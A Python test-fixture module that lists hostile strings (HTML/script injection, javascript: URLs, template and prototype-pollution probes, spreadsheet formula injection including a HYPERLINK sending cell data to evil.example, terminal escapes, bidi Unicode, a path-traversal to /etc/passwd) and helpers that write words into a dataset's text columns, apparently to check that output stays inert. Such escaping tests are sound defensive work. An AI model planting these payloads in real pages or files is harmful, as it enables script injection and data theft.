"""Strings that were written to do harm, by kind. Wherever they land, they must be nothing but text."""

import dataclasses

import pyarrow as pa

MARKUP = (
    '<img src=x onerror="window.hacked=1">',
    "</script><script>window.hacked=1</script>",
    '"><svg onload="window.hacked=1">',
    "' onmouseover='window.hacked=1' x='",
    "<!--<script>",
    "--><b>bold</b>",
    "]]><b>bold</b>",
    "</title></style></textarea></noscript><script>window.hacked=1</script>",
    "<a href=javascript:window.hacked=1>press</a>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e",
)
CODE = (
    "javascript:window.hacked=1",
    "\x01javascript:window.hacked=1",
    "java\tscript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "{{7*7}} {% raw %} {{ self.__init__.__globals__ }} ${7*7}",
    "'); window.hacked=1; ('",
    "`${window.hacked=1}`",
    "\\u003cscript\\u003e \\x3cscript\\x3e \\",
    "__proto__",
    "constructor",
    '{"__proto__": {"hacked": 1}}',
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"press")',
    "@SUM(1)",
    "+1",
    "-2+3|cmd",
    "\t=1",
    "\r=1",
    "\n=1",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;another title\x07",
    "\x1b]8;;http://evil.example\x1b\\press\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "back\x08\x08\x08\x08gone",
    "one line\rANOTHER",
    "[bold red]markup of rich[/] :skull:",
)
UNICODE = (
    "left \u202eright to left\u202c left",
    "\u2066isolate\u2069",
    "line\u2028paragraph\u2029end",
    "nul\x00 byte",
    "\ufeffmark \ufffe no character \uffff",
    "z" + "\u0301\u0302\u0303" * 20,
    "👩‍👩‍👧 \U000e0041 tag",
    "%s %n {0} {} %(name)s",
    "../../etc/passwd",
    "W" * 2000,
)
HOSTILE = (*MARKUP, *CODE, *FORMULAS, *TERMINAL, *UNICODE)


def replaced(table, name, values):
    """The table with other values in a column."""
    field = table.schema.field(name)
    return table.set_column(table.schema.names.index(name), field, pa.array(values, field.type))


def written(made, words):
    """A map in which the next of `words` stands wherever a text may stand."""
    turn = iter(range(10**9))

    def word(value):
        return value if value is None else f"{words[next(turn) % len(words)]} {next(turn)}"

    def column(table, name):
        values = table.column(name).to_pylist()
        new = [[word(each) for each in v] if isinstance(v, list) else word(v) for v in values]
        return replaced(table, name, new)

    documents, topics, labels = made.documents.table, made.topics.table, made.labels.table
    for name in ("title", "text"):
        documents = column(documents, name)
    found = documents.column("category").to_pylist()
    documents = replaced(documents, "category", [v and words[number % 9] for number, v in enumerate(found)])
    for name in ("keywords", "keybert", "mmr"):
        topics = column(topics, name)
    for name in ("name", "description", "answers", "reason"):
        labels = column(labels, name)
    config = made.dataset
    if config.slug == "tiny":
        changes = {"title": " ".join(words), "description": " ".join(words), "license": words[2], "tags": words}
        # A name of a column of the data stands on the map and among the settings.
        name, date = words[0], "date"
        documents = documents.rename_columns([name if each == "rating" else each for each in documents.column_names])
        columns = {
            "documents": config.documents.model_copy(update={"columns": {name: "number"}, "category": words[3]}),
            "privacy": config.privacy.model_copy(update={"columns": (date, name)}),
        }
        config = config.model_copy(update={**changes, **columns, "citation": " ".join(words)})
    return dataclasses.replace(
        made,
        dataset=config,
        documents=dataclasses.replace(made.documents, table=documents),
        topics=dataclasses.replace(made.topics, table=topics),
        labels=dataclasses.replace(
            made.labels,
            table=labels,
            provenance={"model": words[0], "revision": words[1]},
            parents=column(made.labels.parents, "name"),
        ),
    )
